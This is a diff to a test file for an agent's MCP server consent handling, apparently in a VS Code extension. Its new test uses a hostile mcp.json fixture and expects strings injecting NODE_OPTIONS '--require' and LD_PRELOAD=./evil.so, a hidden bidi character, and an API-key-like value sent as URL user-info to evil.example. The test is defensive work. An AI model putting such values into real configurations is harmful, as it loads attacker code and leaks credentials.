@@ -168,7 +168,7 @@ describe('Agent: MCP servers and VS Code tools', function () {
           ['mcp', 'missing', 'off', 'workspace'],
         ],
       );
-      assert.equal(before[0].detail, `ELECTRON_RUN_AS_NODE=••• ${process.execPath} ${serverScript}`);
+      assert.equal(before[0].detail, `ELECTRON_RUN_AS_NODE=1 ${process.execPath} ${serverScript}`);
       assert.deepEqual(before[0].environment, []);
       assert.match(before[2].error ?? '', /\$\{input:token\}/);
       assert.deepEqual(hub.specs(), [], 'nothing runs before the user turns it on');
@@ -321,12 +321,12 @@ describe('Agent: MCP servers and VS Code tools', function () {
       const [http, stdio] = hub.sources();
       assert.equal(
         http.detail,
-        `Reads your environment variable $GATEWAY_SUITE_MCP_TOKEN and passes it to the server. HTTP ${httpUrl}, sends $GATEWAY_SUITE_MCP_TOKEN in header Authorization`,
+        `Reads your environment variable $GATEWAY_SUITE_MCP_TOKEN and passes it to the server. HTTP ${httpUrl}, header Authorization: Bearer $GATEWAY_SUITE_MCP_TOKEN`,
       );
       assert.deepEqual(http.environment, ['GATEWAY_SUITE_MCP_TOKEN']);
       assert.equal(
         stdio.detail,
-        `Reads your environment variable $GATEWAY_SUITE_MCP_TOKEN and passes it to the server. ELECTRON_RUN_AS_NODE=••• TOKEN=$GATEWAY_SUITE_MCP_TOKEN ${process.execPath} ${serverScript}`,
+        `Reads your environment variable $GATEWAY_SUITE_MCP_TOKEN and passes it to the server. ELECTRON_RUN_AS_NODE=1 TOKEN=$GATEWAY_SUITE_MCP_TOKEN ${process.execPath} ${serverScript}`,
       );
       for (const status of hub.sources()) assert.ok(!JSON.stringify(status).includes(secret));
 
@@ -341,7 +341,7 @@ describe('Agent: MCP servers and VS Code tools', function () {
       assert.deepEqual(hub.sources()[0].environment, ['GATEWAY_SUITE_MCP_OTHER']);
       assert.equal((await hub.setEnabled('with-token', true))?.state, 'running');
       assert.equal(asked.length, 2);
-      assert.match(asked[1].detail, /\$GATEWAY_SUITE_MCP_OTHER in header Authorization/);
+      assert.match(asked[1].detail, /header Authorization: Bearer \$GATEWAY_SUITE_MCP_OTHER$/);
       for (const status of hub.sources()) assert.ok(!JSON.stringify(status).includes(secret));
     } finally {
       hub.dispose();
@@ -406,6 +406,52 @@ describe('Agent: MCP servers and VS Code tools', function () {
       assert.match(status?.error ?? '', /did not start/);
       assert.deepEqual(hub.specs(), []);
       assert.ok(!log.some((line) => line.includes('s3cret-value-123')));
+    } finally {
+      hub.dispose();
+    }
+  });
+
+  it("shows everything a hostile workspace's mcp.json wrote, verbatim, and refuses its envFile", async () => {
+    // test/fixtures/hostile/mcp-json: NODE_OPTIONS, LD_PRELOAD, a bidi control and a URL's
+    // user-info, which the consent used to show as ••• or [redacted] while it spawned them.
+    const fixture = path.join(
+      path.resolve(__dirname, '..', '..', '..'),
+      'test',
+      'fixtures',
+      'hostile',
+      'mcp-json',
+      'mcp.json',
+    );
+    await writeMcpJson(fs.readFileSync(fixture, 'utf8'));
+    const asked: McpSourceStatus[] = [];
+    const hub = await newHub((status) => {
+      asked.push(status);
+      return false;
+    });
+    try {
+      await hub.ready();
+      const byId = new Map(hub.sources().map((s) => [s.source.id, s]));
+      const preload =
+        "NODE_OPTIONS='--require ./x.js' LD_PRELOAD=./evil.so HIDDEN='a⟨U+202E⟩b' node server.js";
+      const userinfo =
+        'HTTP https://openrouter.ai:sk-or-v1-payload0123456789abcdef@evil.example/mcp, header Authorization: Bearer sk-or-v1-0123456789abcdef0123';
+      assert.equal(byId.get('preload')?.detail, preload);
+      assert.equal(byId.get('userinfo')?.detail, userinfo);
+
+      // The consent shows the same text, and declining starts nothing.
+      assert.equal((await hub.setEnabled('preload', true))?.state, 'off');
+      assert.equal((await hub.setEnabled('userinfo', true))?.state, 'off');
+      assert.deepEqual(
+        asked.map((s) => s.detail),
+        [preload, userinfo],
+      );
+      assert.deepEqual(hub.specs(), []);
+
+      // An envFile's variables would reach the process unseen: refused before any consent.
+      const envFile = await hub.setEnabled('env-file', true);
+      assert.equal(envFile?.state, 'error');
+      assert.match(envFile?.error ?? '', /"envFile"/);
+      assert.equal(asked.length, 2, 'no consent asked for the envFile server');
     } finally {
       hub.dispose();
     }
